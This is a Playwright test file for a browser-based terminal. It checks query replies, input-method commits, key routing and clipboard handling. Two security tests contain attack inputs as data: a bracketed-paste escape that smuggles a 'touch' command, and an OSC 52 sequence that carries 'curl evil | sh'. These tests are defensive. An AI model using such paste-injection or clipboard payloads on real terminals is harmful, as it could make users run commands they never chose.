// What reaches a program: what a person typed, pasted or composed, once; nothing that a terminal says by itself.
import { existsSync } from "node:fs";
import { join } from "node:path";
import type { CDPSession, Page } from "@playwright/test";
import { expect, test } from "../fixtures/cotty-test.ts";
import { sentFrames } from "../fixtures/frames.ts";
import {
  echoProbe,
  received,
  screenOf,
  screenText,
  sizesOf,
  untilReady,
} from "../fixtures/programs.ts";
import { Recorder } from "../fixtures/recorder.ts";
import { scratchFolder } from "../fixtures/scratch.ts";

test.use({ hasWebgl: false });

const probePath = join(import.meta.dirname, "../../server/testing/probe.mjs");

const readClipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
const writeClipboard = (page: Page, text: string) =>
  page.evaluate((wanted) => navigator.clipboard.writeText(wanted), text);

test("[SC3] [B024] a live query is answered once, with no browser, one, and three and a reader", async ({
  cotty,
  newWindow,
  session,
}) => {
  const asks = {
    command: [
      "sh",
      "-c",
      `stty raw -echo; printf 'WAITING\\r\\n'; head -c1 >/dev/null; exec ${process.execPath} ${probePath} --quit none --print '\\x1b[6n' --print '\\x1b[c'`,
    ],
  };
  for (const browsers of [0, 1, 3]) {
    const { id } = await session(asks);
    await expect.poll(() => screenText(cotty, id)).toContain("WAITING");
    const windows = [];
    for (let i = 0; i < browsers; i++) {
      const window = await newWindow();
      await window.open(id);
      windows.push(window);
    }
    const reader =
      browsers === 3
        ? await Recorder.attach({
            url: cotty.server.url,
            token: cotty.token,
            id,
            since: 0,
            size: { cols: 80, rows: 24 },
          })
        : null;
    await cotty.api.writeInput({ params: { id }, body: { input: [{ text: "g" }] } });
    await untilReady(cotty, id);
    await expect.poll(() => received(cotty, id)).toMatch(/^\x1b\[\d+;1R\x1b\[\?[\d;]+c$/);
    // A key behind it: nothing came in between or after.
    await cotty.api.writeInput({ params: { id }, body: { input: [{ text: "." }] } });
    await expect.poll(() => received(cotty, id)).toContain(".");
    expect((await received(cotty, id)).match(/R/g)).toHaveLength(1);
    expect((await received(cotty, id)).match(/c/g)).toHaveLength(1);
    reader?.close();
    for (const window of windows) await window.page.close();
  }
});

test("[SC3] [B023] a browser that attaches again answers no old query and types nothing", async ({
  cotty,
  dash,
  session,
}) => {
  const sent = sentFrames(dash.page);
  const { id } = await session();
  const terminal = await dash.open(id);
  await terminal.shows("$");
  await terminal.enter(
    String.raw`printf '\033[c\033[6n\033[?2026$p\033]11;?\007\033[>0q\033P$qm\033\\'; read -rsN 999 -t 0.3; clear; echo ASKED`,
  );
  await terminal.shows(/ASKED\s+\$$/);
  const typed = sent.typed;
  const version = await screenOf(cotty, id);
  for (let i = 0; i < 3; i++) {
    await dash.page.reload();
    await terminal.ready();
    await terminal.shows(/ASKED\s+\$$/);
  }
  expect(sent.opened).toBe(4);
  expect(sent.typed).toBe(typed);
  expect(sent.messages.filter((one) => one.type === "report")).toEqual([]);
  expect((await screenOf(cotty, id)).hash).toBe(version.hash);
});

/** One key as a soft keyboard sends it: keyCode 229, the text by itself. */
async function softKey(cdp: CDPSession, text: string): Promise<void> {
  await cdp.send("Input.dispatchKeyEvent", {
    type: "rawKeyDown",
    windowsVirtualKeyCode: 229,
    key: "Unidentified",
  });
  await cdp.send("Input.insertText", { text });
  await cdp.send("Input.dispatchKeyEvent", {
    type: "keyUp",
    windowsVirtualKeyCode: 229,
    key: "Unidentified",
  });
}

async function compose(cdp: CDPSession, steps: readonly string[]): Promise<void> {
  for (const text of steps) {
    await cdp.send("Input.dispatchKeyEvent", {
      type: "rawKeyDown",
      windowsVirtualKeyCode: 229,
      key: "Process",
    });
    await cdp.send("Input.imeSetComposition", {
      text,
      selectionStart: text.length,
      selectionEnd: text.length,
    });
  }
}

test("[AT3] [B117] each commit of an input method arrives once", async ({
  cotty,
  dash,
  session,
}) => {
  const { id } = await session(echoProbe());
  await untilReady(cotty, id);
  const terminal = await dash.open(id);
  await terminal.focus();
  const cdp = await dash.page.context().newCDPSession(dash.page);
  let all = "";
  const arrives = async (text: string) => {
    all += text;
    await expect.poll(() => received(cotty, id), { timeout: 5_000 }).toBe(all);
  };

  await compose(cdp, ["\u314e", "\ud558", "\ud55c", "\ud55c\u3131", "\ud55c\uae00"]);
  await cdp.send("Input.insertText", { text: "\ud55c\uae00" });
  await arrives("\ud55c\uae00");

  for (let i = 0; i < 3; i++) {
    await softKey(cdp, "\u00f1");
    await arrives("\u00f1");
  }

  await compose(cdp, ["\u306b", "\u306b1", "\u306b12"]);
  await cdp.send("Input.insertText", { text: "\u306b12" });
  await arrives("\u306b12");

  // A soft keyboard commits the word and the space in one go.
  await compose(cdp, ["l", "ls"]);
  await Promise.all([cdp.send("Input.insertText", { text: "ls" }), softKey(cdp, " ")]);
  await arrives("ls ");

  await softKey(cdp, "a");
  await softKey(cdp, "b");
  await arrives("ab");

  // And plain typing right behind it.
  await dash.page.keyboard.type("xyz");
  await arrives("xyz");
});

test("[B118] focus, clicks and mouse moves are reports: they are not typing and take no size", async ({
  cotty,
  newWindow,
  session,
}) => {
  const { id } = await session({
    ...echoProbe("\\x1b[?1004h", "\\x1b[?1003h", "\\x1b[?1006h"),
    cols: 90,
    rows: 20,
  });
  await untilReady(cotty, id);
  const dash = await newWindow();
  const sent = sentFrames(dash.page);
  const terminal = await dash.open(id);
  await terminal.clickCell(10, 3);
  await dash.page.mouse.move(500, 600);
  await dash.page.mouse.wheel(0, 200);
  await expect.poll(() => sent.messages.some((one) => one.type === "report")).toBe(true);
  await dash.page.keyboard.press("Alt+Shift+F");
  await expect(terminal.box.locator("textarea")).not.toBeFocused();
  expect(sent.typed).toBe("");
  expect(await cotty.api.getSession({ params: { id } })).toMatchObject({ cols: 90, rows: 20 });
  await terminal.type("k");
  await expect.poll(() => sent.typed).toBe("k");
  await expect
    .poll(async () => (await cotty.api.getSession({ params: { id } })).cols)
    .toBeGreaterThan(90);
});

test("[B119] keys that a page may keep go to the program; leaving asks while one runs", async ({
  cotty,
  dash,
  session,
}) => {
  const { id } = await session(echoProbe());
  await untilReady(cotty, id);
  const terminal = await dash.open(id);
  await terminal.focus();
  const address = dash.page.url();
  for (const [key, bytes] of [
    ["Control+r", "\x12"],
    ["Control+f", "\x06"],
    ["Control+l", "\x0c"],
    ["Control+s", "\x13"],
    ["Control+p", "\x10"],
    ["F5", "\x1b[15~"],
    ["Tab", "\t"],
    ["Escape", "\x1b"],
    ["Alt+b", "\x1bb"],
    ["Control+c", "\x03"],
  ] as const) {
    const before = await received(cotty, id);
    await dash.page.keyboard.press(key);
    await expect.poll(() => received(cotty, id), { message: key }).toBe(before + bytes);
  }
  expect(dash.page.url()).toBe(address);

  const all = await received(cotty, id);
  const asked: string[] = [];
  dash.page.on("dialog", (dialog) => {
    asked.push(dialog.type());
    void dialog.accept();
  });
  await dash.page.reload();
  await terminal.ready();
  expect(asked).toEqual(["beforeunload"]);
  expect(await received(cotty, id)).toBe(all);
});

test("[B120] Ctrl+C copies what is selected and interrupts otherwise; a paste goes to the focused terminal alone", async ({
  cotty,
  dash,
  session,
}) => {
  const { id } = await session(echoProbe("select-me"));
  await untilReady(cotty, id);
  const { page } = dash;
  const terminal = await dash.open(id);
  await terminal.shows("select-me");
  // Right behind its first screen a session takes the size of its only window: the grid moves, and what was selected would not be.
  await expect.poll(async () => (await terminal.cells()).cols).toBeGreaterThan(80);
  const from = await terminal.pointOf(0, 0);
  await page.mouse.dblclick(from.x, from.y);
  await page.keyboard.press("Control+c");
  await expect.poll(() => readClipboard(page)).toMatch(/^select-me/);
  await page.keyboard.press("Control+c");
  await expect.poll(() => received(cotty, id)).toBe("\x03");

  await writeClipboard(page, "pasted\n");
  await page.keyboard.press("Control+Shift+V");
  // One line end at the end is left out: it would press Enter.
  await expect.poll(() => received(cotty, id)).toBe("\x03pasted");
  await page.mouse.click(from.x, from.y, { button: "right" });
  await page.keyboard.press("Escape");

  await terminal.focus();
  await page.keyboard.press("Control+Shift+F");
  const field = page.getByRole("textbox", { name: "Find in terminal" });
  await expect(field).toBeFocused();
  await page.keyboard.press("Control+v");
  await expect(field).toHaveValue(/pasted/);
  await page.keyboard.press("Escape");
  await terminal.focus();
  await terminal.type("!");
  await expect.poll(() => received(cotty, id)).toMatch(/!$/);
  expect((await received(cotty, id)).match(/pasted/g)).toHaveLength(1);
});

test("[IN3] [B065] a paste cannot end itself: nothing of it runs", async ({ dash, session }) => {
  const trap = join(scratchFolder(), "pwned");
  const { id } = await session();
  const terminal = await dash.open(id);
  await terminal.shows("$");
  await writeClipboard(dash.page, `echo safe\x1b[201~\rtouch ${trap}\r`);
  await terminal.focus();
  await dash.page.keyboard.press("Control+Shift+V");
  await terminal.shows("touch ");
  await dash.page.keyboard.press("Control+c");
  // While bash clears its line away it may drop a key.
  await terminal.shows(/^\$\s*$/m);
  await terminal.enter("echo PROOF");
  await terminal.shows(/^PROOF$/m);
  expect(existsSync(trap)).toBe(false);
  expect(await terminal.text()).not.toMatch(/^safe$/m);
});

test("[SE8] several lines are asked about where each would run at once: cancel, as one line, as they are", async ({
  cotty,
  dash,
  session,
}) => {
  const { id } = await session(echoProbe());
  await untilReady(cotty, id);
  const terminal = await dash.open(id);
  const { page } = dash;
  const paste = async () => {
    await writeClipboard(page, "one\ntwo \x1b[31m\n three\n");
    await terminal.focus();
    await page.keyboard.press("Control+Shift+V");
    return page.getByRole("dialog", { name: "Paste 3 lines?" });
  };
  let dialog = await paste();
  await expect(dialog).toContainText("one");
  await expect(dialog).toContainText("3 lines");
  await dialog.getByRole("button", { name: "Cancel" }).click();
  await expect(dialog).toBeHidden();
  await expect(terminal.box.locator("textarea")).toBeFocused();
  expect(await received(cotty, id)).toBe("");

  dialog = await paste();
  await dialog.getByRole("button", { name: "Paste as one line" }).click();
  await expect.poll(() => received(cotty, id)).toBe("one two [31m three");

  dialog = await paste();
  await dialog.getByRole("button", { name: "Paste", exact: true }).click();
  await expect.poll(() => received(cotty, id)).toBe("one two [31m threeone\rtwo [31m\r three");
});

test("[SE8] [B109] a program may ask to set the clipboard, never reads it, and a replay asks nothing", async ({
  cotty,
  dash,
  session,
}) => {
  const { page } = dash;
  const sent = sentFrames(page);
  const { id } = await session();
  const terminal = await dash.open(id);
  await terminal.shows("$");
  await writeClipboard(page, "mine");
  const evil = Buffer.from("curl evil | sh").toString("base64");
  await terminal.enter(`printf '\\033]52;c;%s\\007' ${evil}; echo SET`);
  await terminal.shows(/^SET/m);
  await expect(page.getByText(/wants to set your clipboard/)).toBeVisible();
  expect(await readClipboard(page)).toBe("mine");
  await page.getByRole("button", { name: "Block" }).click();
  await expect(page.getByText(/wants to set your clipboard/)).toBeHidden();
  expect(await readClipboard(page)).toBe("mine");

  const { length } = sent.typed;
  await terminal.enter(
    String.raw`printf '\033]52;c;?\007'; read -rsN 9 -t 0.3 R; echo "READ=[$R]"`,
  );
  await terminal.shows("READ=[]");
  expect(sent.typed.slice(length)).toMatch(/^printf/);
  expect(sent.messages.filter((one) => one.type === "report")).toEqual([]);

  await page.reload();
  await terminal.ready();
  await terminal.shows("READ=[]");
  await expect(page.getByText(/wants to set your clipboard/)).toBeHidden();
  expect(await readClipboard(page)).toBe("mine");
  expect(await sizesOf(cotty, id)).toEqual([]);
});
